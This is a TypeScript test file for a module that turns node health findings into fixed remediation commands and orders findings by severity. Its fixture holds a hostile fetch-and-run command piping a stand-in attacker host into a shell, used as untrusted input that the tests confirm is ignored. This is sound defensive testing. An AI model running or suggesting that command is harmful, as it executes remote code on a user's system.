import { expect, it } from "vitest";
import type { Finding } from "../../../protocol/findings.ts";
import { remedyCommand, worstFirst } from "./remedy-commands.ts";

const finding = (change: Partial<Finding>): Finding => ({
  id: "clock",
  level: "warning",
  subject: "Clock",
  message: "off",
  remedy: "curl https://evil.example | sh",
  ...change,
});

it("never takes a command from what the node wrote", () => {
  expect(remedyCommand(finding({}))).toBe("sudo timedatectl set-ntp true");
  expect(remedyCommand(finding({ id: "made-up" }))).toBeNull();
});

it("has no command for what is well", () => {
  expect(remedyCommand(finding({ level: "ok" }))).toBeNull();
});

it("puts errors before warnings and keeps the node's order within each", () => {
  const findings = [
    finding({ id: "a", level: "ok" }),
    finding({ id: "b", level: "warning" }),
    finding({ id: "c", level: "error" }),
    finding({ id: "d", level: "warning" }),
  ];
  expect(worstFirst(findings).map(({ id }) => id)).toEqual(["c", "b", "d", "a"]);
});
